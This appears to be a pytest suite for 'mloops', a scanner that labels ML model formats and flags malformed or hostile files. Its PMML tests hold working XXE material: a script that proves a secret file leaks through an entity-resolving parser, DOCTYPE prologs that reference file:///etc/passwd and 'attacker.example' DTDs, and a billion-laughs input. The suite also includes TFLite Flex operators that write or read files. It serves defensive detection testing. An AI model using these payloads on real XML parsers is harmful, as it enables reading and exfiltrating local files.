"""Data-only formats that mloops recognises and labels: XGBoost JSON/UBJSON, LightGBM text, Flax msgpack,
TFLite and PMML. Benign files get their label and nothing above INFO; broken ones are MLO201, never a
pass and never a scanner error; PMML with a DOCTYPE is MLO190; other files are not mistaken for these.

Flax and TFLite fixtures are structural (neither library is installed): see corpus/labelled_formats.py.
"""

from __future__ import annotations

import gzip
import json
import pickle
import random
import struct
import subprocess
import sys

import msgpack
import numpy as np
import pytest
from corpus import labelled_formats as lf
from corpus.archives import make_zip
from corpus.labelled_formats import (
    UBJ_EXABYTE_ARRAY,
    _patch_u32,
    _tree_sizes_line,
    flax_map_claiming_billions,
    flax_with_hostile_dimensions,
    large_xgboost_json,
    lightgbm_with_huge_tree_sizes,
    tflite_vector_claiming_a_billion,
)

from mloops.core import Severity
from mloops.sniff import sniff

from .conftest import findings_at_least, rule_ids, worst

LABELS = {"xgboost-json", "xgboost-ubj", "lightgbm-text", "flax-msgpack", "tflite", "pmml"}


def formats(report) -> list[str]:
    return [asset.format for asset in report.assets]


def assert_clean(report, label: str) -> None:
    assert formats(report) == [label]
    assert worst(report) == Severity.INFO, [f"{f.rule.id} {f.message}" for f in report.findings]
    assert "MLO903" not in rule_ids(report)


def assert_malformed(report, label: str | None = None) -> None:
    ids = rule_ids(report)
    assert "MLO201" in ids and "MLO903" not in ids, [f"{f.rule.id} {f.message}" for f in report.findings]
    if label is not None:
        assert label in formats(report)
    malformed = [f for f in report.findings if f.rule.id == "MLO201"]
    assert all(f.severity == Severity.HIGH and f.location.offset is not None for f in malformed)


# ------------------------------------------------------------------ benign files from the real libraries


@pytest.mark.parametrize("suffix,label", [(".json", "xgboost-json"), (".ubj", "xgboost-ubj")])
def test_xgboost_models_are_labelled_and_clean(scan, tmp_path, suffix, label):
    data = lf.xgboost_model(tmp_path, suffix)
    report = scan("booster" + suffix, data)
    assert_clean(report, label)
    assert rule_ids(report) == {"MLO001"}


def test_xgboost_model_under_any_name_is_recognised_by_content(scan, tmp_path):
    assert_clean(scan("weights.bin", lf.xgboost_model(tmp_path, ".ubj")), "xgboost-ubj")


def test_lightgbm_model_is_labelled_and_clean(scan, tmp_path):
    assert_clean(scan("model.txt", lf.lightgbm_model(tmp_path)), "lightgbm-text")


def test_flax_state_is_labelled_and_clean(scan):
    assert_clean(scan("flax_model.msgpack", lf.flax_bytes(lf.flax_state())), "flax-msgpack")


def test_flax_state_is_recognised_without_its_extension(scan):
    assert_clean(scan("checkpoint_12", lf.flax_bytes(lf.flax_state())), "flax-msgpack")


def test_flax_state_of_nested_maps_only_needs_the_msgpack_name(scan):
    data = lf.flax_bytes({"params": {"Dense_0": {}}, "step": 0})
    assert_clean(scan("flax_model.msgpack", data), "flax-msgpack")
    assert "flax-msgpack" not in formats(scan("state.bin", data))


def test_tflite_model_is_labelled_and_clean(scan):
    assert_clean(scan("model.tflite", lf.tflite_model()), "tflite")


def test_pmml_is_labelled_and_clean(scan):
    assert_clean(scan("model.pmml", lf.pmml_document().encode()), "pmml")


def test_pmml_with_comments_and_utf16_is_labelled(scan):
    document = lf.pmml_document("<!-- generated: no <!DOCTYPE here -->\n<?pi data?>\n")
    assert_clean(scan("model.xml", document.encode()), "pmml")
    assert_clean(scan("model16.xml", document.replace("UTF-8", "UTF-16").encode("utf-16")), "pmml")


@pytest.mark.parametrize("suffix,label", [(".json", "xgboost-json"), (".ubj", "xgboost-ubj")])
def test_compressed_and_archived_models_keep_their_label(scan, tmp_path, suffix, label):
    data = lf.xgboost_model(tmp_path, suffix)
    assert label in formats(scan("model" + suffix + ".gz", gzip.compress(data)))
    report = scan("bundle.zip", make_zip({"model" + suffix: data, "model.tflite": lf.tflite_model()}))
    assert {label, "tflite"} <= set(formats(report)) and worst(report) == Severity.INFO


def test_gzipped_tflite_and_lightgbm_are_checked_without_a_known_size(scan, tmp_path):
    report = scan("m.tflite.gz", gzip.compress(lf.tflite_model()))
    assert "tflite" in formats(report) and worst(report) == Severity.INFO
    broken = lf.lightgbm_model(tmp_path)[:-300]
    assert_malformed(scan("m.txt.gz", gzip.compress(broken)), "lightgbm-text")


# ------------------------------------------------------------------ XGBoost: broken documents


@pytest.mark.parametrize("cut", [0.99, 0.5, 0.1])
def test_truncated_xgboost_json_is_malformed(scan, tmp_path, cut):
    data = lf.xgboost_model(tmp_path, ".json")
    assert_malformed(scan("model.json", data[: int(len(data) * cut)]), "xgboost-json")


@pytest.mark.parametrize("cut", [0.99, 0.5, 0.1])
def test_truncated_xgboost_ubj_is_malformed(scan, tmp_path, cut):
    data = lf.xgboost_model(tmp_path, ".ubj")
    assert_malformed(scan("model.ubj", data[: int(len(data) * cut)]), "xgboost-ubj")


def test_xgboost_json_with_broken_nesting_or_strings_is_malformed(scan, tmp_path):
    data = lf.xgboost_model(tmp_path, ".json")
    swapped = data.replace(b'"tree_info":[', b'"tree_info":{', 1)
    assert_malformed(scan("model.json", swapped))
    unterminated = data[:-40] + b'"open string'
    assert_malformed(scan("model.json", unterminated))
    stray = data.replace(b'"num_trees"', b'<"num_trees"', 1)
    assert_malformed(scan("model.json", stray))


def test_xgboost_json_without_version_is_malformed(scan, tmp_path):
    document = json.loads(lf.xgboost_model(tmp_path, ".json"))
    del document["version"]
    report = scan("model.json", json.dumps(document).encode())
    assert_malformed(report, "xgboost-json")
    assert any("version" in f.message for f in report.findings)


@pytest.mark.parametrize("suffix", [".json", ".ubj"])
def test_data_after_an_xgboost_document_is_reported(scan, tmp_path, suffix):
    data = lf.xgboost_model(tmp_path, suffix)
    report = scan("model" + suffix, data + b"\x80\x04payload")
    (trailing,) = [f for f in report.findings if f.rule.id == "MLO202"]
    assert trailing.location.offset == len(data)


def test_ubj_typed_array_claiming_exabytes_is_malformed(scan):
    assert_malformed(scan("model.ubj", UBJ_EXABYTE_ARRAY), "xgboost-ubj")


def test_ubj_deep_nesting_is_bounded(scan):
    data = b"{i\x07learner{i\x01k" + b"[" * 10_000
    assert_malformed(scan("model.ubj", data), "xgboost-ubj")


def test_large_xgboost_json_is_streamed(scan, tmp_path):
    data = large_xgboost_json(tmp_path)
    assert len(data) > 30 << 20
    assert_clean(scan("big.json", data), "xgboost-json")


# ------------------------------------------------------------------ LightGBM: broken text


@pytest.mark.parametrize("marker", [b"Tree=1", b"end of trees", b"feature_importances:", b"[boosting: "])
def test_truncated_lightgbm_model_is_malformed(scan, tmp_path, marker):
    data = lf.lightgbm_model(tmp_path)
    assert_malformed(scan("model.txt", data[: data.index(marker) + 3]), "lightgbm-text")


def test_lightgbm_tree_sizes_that_disagree_are_malformed(scan, tmp_path):
    data = lf.lightgbm_model(tmp_path)
    line = _tree_sizes_line(data)
    sizes = [int(size) for size in line.split(b"=")[1].split()]
    shifted = b"tree_sizes=" + b" ".join(str(size + 7).encode() for size in sizes)
    assert_malformed(scan("model.txt", data.replace(line, shifted)), "lightgbm-text")
    assert_malformed(scan("model.txt", data.replace(line, b"tree_sizes=" + b"9" * 5000)), "lightgbm-text")
    assert_malformed(scan("model.txt", lightgbm_with_huge_tree_sizes(tmp_path)), "lightgbm-text")


# ------------------------------------------------------------------ Flax: broken msgpack


def test_truncated_flax_state_is_malformed(scan):
    data = lf.flax_bytes(lf.flax_state())
    for cut in (len(data) - 3, len(data) // 2, 40):
        assert_malformed(scan("flax_model.msgpack", data[:cut]), "flax-msgpack")


def test_flax_array_whose_shape_disagrees_with_its_bytes_is_malformed(scan):
    state = {"params": {"kernel": lf.flax_array((3, 4), "float32", bytes(40))}}
    report = scan("flax_model.msgpack", lf.flax_bytes(state))
    assert_malformed(report, "flax-msgpack")
    (finding,) = [f for f in report.findings if f.rule.id == "MLO201"]
    assert "48" in finding.message and finding.evidence["path"] == "params/kernel"


def test_flax_array_with_hostile_dimensions_or_dtype_is_malformed(scan):
    assert_malformed(scan("m.msgpack", flax_with_hostile_dimensions()))
    assert_malformed(scan("m.msgpack", lf.flax_bytes({"p": {"k": lf.flax_array((2,), "object", bytes(16))}})))


def test_flax_extension_that_hides_extra_bytes_is_malformed(scan):
    inner = msgpack.packb(((2,), "float32", bytes(8)), use_bin_type=True) + b"hidden"
    state = {"params": {"kernel": msgpack.ExtType(lf.FLAX_NDARRAY, inner)}}
    assert_malformed(scan("m.msgpack", lf.flax_bytes(state)), "flax-msgpack")


def test_flax_unknown_extension_type_is_malformed(scan):
    state = {"params": {"kernel": lf.flax_ndarray(np.ones(2)), "x": msgpack.ExtType(42, b"data")}}
    assert_malformed(scan("m.msgpack", lf.flax_bytes(state)), "flax-msgpack")


def test_flax_map_claiming_billions_of_entries_is_malformed(scan):
    assert_malformed(scan("m.msgpack", flax_map_claiming_billions()), "flax-msgpack")


def test_flax_deep_nesting_is_bounded(scan):
    data = b"\x81\xa1k" * 5000 + b"\xc0"
    assert_malformed(scan("m.msgpack", data), "flax-msgpack")


def test_data_after_a_flax_state_is_reported(scan):
    data = lf.flax_bytes(lf.flax_state())
    report = scan("m.msgpack", data + b"\x80\x04evil")
    assert "MLO202" in rule_ids(report)


# ------------------------------------------------------------------ TFLite: offsets and custom operators


def test_tflite_custom_operator_is_noted_at_info(scan):
    report = scan("detect.tflite", lf.tflite_model("TFLite_Detection_PostProcess"))
    assert formats(report) == ["tflite"] and rule_ids(report) == {"MLO162"}
    (note,) = report.findings
    assert note.severity == Severity.INFO and "TFLite_Detection_PostProcess" in note.evidence["custom_ops"]


@pytest.mark.parametrize("custom,ops", [("FlexWriteFile", ("WriteFile",)), ("FlexAdd", ("Add", "ReadFile"))])
def test_flex_operator_running_a_file_op_is_high(scan, custom, ops):
    report = scan("model.tflite", lf.tflite_model(custom, lf.flex_options(*ops)))
    (finding,) = findings_at_least(report, Severity.HIGH)
    assert finding.rule.id == "MLO140" and finding.evidence["tensorflow_op"] == ops[-1]
    assert finding.location.offset is not None


def test_flex_operator_with_options_after_the_flatbuffer_is_checked(scan):
    report = scan("model.tflite", lf.tflite_large_options("FlexSaveV2", lf.flex_options("SaveV2")))
    assert [f.rule.id for f in findings_at_least(report, Severity.HIGH)] == ["MLO140"]


def test_flex_operator_with_ordinary_op_is_only_noted(scan):
    report = scan("model.tflite", lf.tflite_model("FlexRFFT", lf.flex_options("RFFT")))
    assert rule_ids(report) == {"MLO162"} and worst(report) == Severity.INFO


def test_flex_operator_disguising_its_op_is_malformed(scan):
    report = scan("model.tflite", lf.tflite_model("FlexAdd", lf.flex_options("Add", "Mul")))
    assert_malformed(report, "tflite")


def test_flex_operator_with_broken_options_is_malformed(scan):
    assert_malformed(scan("model.tflite", lf.tflite_model("FlexAdd", b"\x01\x02")), "tflite")
    options = bytearray(lf.flex_options("WriteFile"))
    options[-3] = 200  # the root offset points before the options
    assert_malformed(scan("model.tflite", lf.tflite_model("FlexWriteFile", bytes(options))), "tflite")


def test_tflite_root_and_vtable_offsets_out_of_bounds_are_malformed(scan):
    data = lf.tflite_model()
    assert_malformed(scan("m.tflite", _patch_u32(data, 0, 0x7FFF_FF00)))
    root = struct.unpack("<I", data[:4])[0]
    assert_malformed(scan("m.tflite", data[:root] + struct.pack("<i", -(1 << 30)) + data[root + 4 :]), "tflite")


def test_tflite_vector_claiming_a_billion_elements_is_malformed(scan):
    assert_malformed(scan("m.tflite", tflite_vector_claiming_a_billion()), "tflite")


def test_tflite_indices_and_buffers_out_of_range_are_malformed(scan):
    outside = lf.FbTable({1: ("Q", 1 << 40), 2: ("Q", 16)})
    assert_malformed(
        scan("m.tflite", lf.tflite_model(model_fields={4: lf.FbVector([lf.FbTable({}), outside])})), "tflite"
    )
    one_buffer = lf.tflite_model(model_fields={4: lf.FbVector([lf.FbTable({})])})  # tensor "w" uses buffer 1
    assert_malformed(scan("m.tflite", one_buffer), "tflite")
    assert_malformed(scan("m.tflite", lf.tflite_model(model_fields={0: ("I", 2)})), "tflite")


@pytest.mark.parametrize("fraction", [0.9, 0.5, 0.2])
def test_truncated_tflite_is_malformed(scan, fraction):
    data = lf.tflite_model()
    assert_malformed(scan("m.tflite", data[: int(len(data) * fraction)]), "tflite")


# ------------------------------------------------------------------ PMML: DOCTYPE and entities

PROVE_XXE = r"""
import sys, xml.sax
class Handler(xml.sax.ContentHandler):
    def characters(self, content):
        print(content, end="")
parser = xml.sax.make_parser()
parser.setFeature(xml.sax.handler.feature_external_ges, True)  # an entity-resolving consumer
parser.setContentHandler(Handler())
parser.parse(sys.argv[1])
"""


def test_pmml_external_entity_is_reported_and_really_reads_files(scan, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("api-key-1234")
    document = lf.pmml_xxe(secret.as_uri())
    report = scan("model.pmml", document.encode())
    assert formats(report) == ["pmml"]
    (finding,) = findings_at_least(report, Severity.HIGH)
    assert finding.rule.id == "MLO190" and finding.evidence["external_entities"] == f"xxe={secret.as_uri()}"
    assert finding.location.offset == document.index("<!DOCTYPE")
    path = tmp_path / "model.pmml"
    leaked = subprocess.run([sys.executable, "-c", PROVE_XXE, str(path)], capture_output=True, text=True, timeout=60)
    assert "api-key-1234" in leaked.stdout  # a resolving parser copies the file into the model


def test_pmml_billion_laughs_is_reported(scan):
    # Structural: expanding it is the attack; the nested entity declarations are what is checked.
    report = scan("model.pmml", lf.pmml_billion_laughs().encode())
    (finding,) = findings_at_least(report, Severity.HIGH)
    assert finding.rule.id == "MLO190" and "lol9" in finding.evidence["nested_entities"]


@pytest.mark.parametrize(
    "prolog,evidence",
    [
        ('<!DOCTYPE PMML SYSTEM "http://attacker.example/evil.dtd">\n', "external_dtd"),
        (
            '<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n',
            "parameter_entities",
        ),
        ('<!DOCTYPE PMML [<!ENTITY name "value">]>\n', "entities_declared"),
        ("<!-- a comment first -->\n<!DOCTYPE PMML>\n", "doctype"),
    ],
)
def test_any_pmml_doctype_is_reported(scan, prolog, evidence):
    report = scan("model.pmml", lf.pmml_document(prolog).encode())
    (finding,) = findings_at_least(report, Severity.HIGH)
    assert finding.rule.id == "MLO190" and evidence in finding.evidence


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_pmml_xxe_in_other_encodings_is_reported(scan, tmp_path, encoding):
    document = lf.pmml_xxe("file:///etc/passwd").replace("UTF-8", encoding.upper())
    report = scan("model.pmml", document.encode(encoding))
    assert "pmml" in formats(report) and "MLO190" in rule_ids(report)


def test_pmml_doctype_with_huge_internal_subset_is_still_recognised(scan):
    filler = '<!ENTITY pad "' + "x" * 200 + '">\n'
    prolog = "<!DOCTYPE PMML [\n" + filler * 2000 + '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    report = scan("model.xml", lf.pmml_document(prolog).encode())
    assert formats(report) == ["pmml"] and "MLO190" in rule_ids(report)


def test_truncated_or_broken_pmml_is_malformed(scan):
    document = lf.pmml_document().encode()
    assert_malformed(scan("model.pmml", document[:-20]), "pmml")
    unclosed = b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY a "b">\n<PMML/>'
    report = scan("model.pmml", unclosed)
    assert_malformed(report, "pmml")
    assert "MLO190" in rule_ids(report)


# ------------------------------------------------------------------ no misfires on other files

HF_CONFIG = json.dumps(
    {"architectures": ["BertModel"], "hidden_size": 768, "model_type": "bert", "learner": "none", "version": 1}
).encode()
TOKENIZER = json.dumps(
    {"version": "1.0", "truncation": None, "model": {"type": "BPE", "vocab": {"a": 0}, "merges": []}}
).encode()


@pytest.mark.parametrize(
    "name,data",
    [
        ("config.json", HF_CONFIG),
        ("tokenizer.json", TOKENIZER),
        ("learner.json", b'{"learner_rate": 0.1, "version": [1, 0]}'),
        ("data.csv", b"tree,version\n1,2\n"),
        ("README.md", b"# Model\n\ntree\nversion=v4 is described below.\n"),
        ("notes.txt", b"tree\nversion 4\n"),
        ("list.msgpack", msgpack.packb([1, 2, {"a": msgpack.ExtType(1, b"\x93\x91\x01")}])),
        ("config.msgpack.bin", msgpack.packb({"lr": 0.1, "name": "adam"})),
        ("page.html", b"<!DOCTYPE html><html><body>PMML is a format</body></html>"),
        ("feed.xml", b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x "y">]><rss>PMML</rss>'),
        ("random.bin", bytes(range(256)) * 4),
    ],
)
def test_other_files_are_not_labelled_as_these_formats(scan, name, data):
    report = scan(name, data)
    assert not LABELS & set(formats(report))
    assert "MLO903" not in rule_ids(report)


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_pickles_are_not_labelled_as_these_formats(scan, protocol):
    data = pickle.dumps({"params": {"w": [1.0, 2.0]}, "learner": "x"}, protocol=protocol)
    assert sniff(data, "flax_model.msgpack") == ["pickle"]
    assert formats(scan("flax_model.msgpack", data)) == ["pickle"]


# ------------------------------------------------------------------ damage anywhere: findings, never a crash


@pytest.fixture(scope="module")
def seeds(tmp_path_factory) -> dict[str, bytes]:
    work = tmp_path_factory.mktemp("seeds")
    return {
        "m.json": lf.xgboost_model(work, ".json"),
        "m.ubj": lf.xgboost_model(work, ".ubj"),
        "m.txt": lf.lightgbm_model(work),
        "m.msgpack": lf.flax_bytes(lf.flax_state()),
        "m.tflite": lf.tflite_model("FlexWriteFile", lf.flex_options("WriteFile")),
        "m.pmml": lf.pmml_billion_laughs(3).encode("utf-16"),
    }


@pytest.mark.parametrize("seed", range(6))
def test_randomly_damaged_files_never_crash_the_scanner(scan, seeds, seed):
    rng = random.Random(seed)
    for _ in range(60):
        name, data = rng.choice(sorted(seeds.items()))
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            at = rng.randrange(len(damaged))
            if rng.random() < 0.6:
                damaged[at] = rng.randrange(256)
            else:
                del damaged[at : at + rng.randint(1, 64)]
        report = scan(name, bytes(damaged) or b"\0")
        assert "MLO903" not in rule_ids(report), [f.message for f in report.findings]
